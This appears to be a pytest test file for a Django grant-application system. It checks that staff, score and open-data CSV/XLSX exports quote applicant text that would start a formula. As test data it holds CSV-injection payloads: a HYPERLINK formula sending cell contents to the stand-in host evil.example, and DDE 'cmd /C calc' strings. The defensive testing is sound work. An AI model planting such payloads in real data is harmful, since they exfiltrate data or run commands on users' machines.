"""Finding 4: applicant text that starts a formula stays text in every CSV/XLSX the product writes."""

import csv
import io
from io import BytesIO

import pytest
from openpyxl import load_workbook

from applications.models import Status
from applications.spreadsheets import safe_cell
from tests.factories import OrganizationFactory, application_in, application_in_state
from tests.review.conftest import reviewer, scored

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_would_start_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["项目", "a=1", "", None, -5, 3.5])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_staff_csv_export_quotes_formulas(client, staff, call):
    application_in(Status.ELIGIBLE, competition=call, title=FORMULA)
    client.force_login(staff)
    response = client.get("/admin/application/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    titles = [r[2] for r in rows[1:]]
    assert titles == ["'" + FORMULA]


def test_staff_xlsx_export_quotes_formulas(client, staff, call):
    application_in(Status.ELIGIBLE, competition=call, title="+CMD|' /C calc'!A0")
    client.force_login(staff)
    response = client.get("/admin/application/?export=xlsx")
    ws = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    values = [v for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert "'+CMD|' /C calc'!A0" in values and "+CMD|' /C calc'!A0" not in values


def test_scores_xlsx_quotes_formulas(client, call, staff, bureau):
    app = application_in(Status.REVIEWED, competition=call, title=FORMULA)
    scored(app, reviewer(bureau), [20, 30, 20], recommendation="fund")
    client.force_login(staff)
    response = client.get(f"/admin/review/calls/{call.pk}/scores.xlsx")
    assert response.status_code == 200
    ws = load_workbook(BytesIO(response.content)).active
    cells = list(ws.iter_rows(values_only=True))[1]
    assert "'" + FORMULA in cells
    assert all(c is None or not (isinstance(c, str) and c.startswith("=")) for c in cells)


def test_open_data_csv_quotes_formulas(client):
    org = OrganizationFactory(name="@SUM(1+1)*cmd|' /C calc'!A0")
    application_in_state(Status.AWARDED, organization=org, title="-2+3")
    body = b"".join(client.get("/open-data/grants.csv").streaming_content).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'-2+3" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "-2+3" not in cells
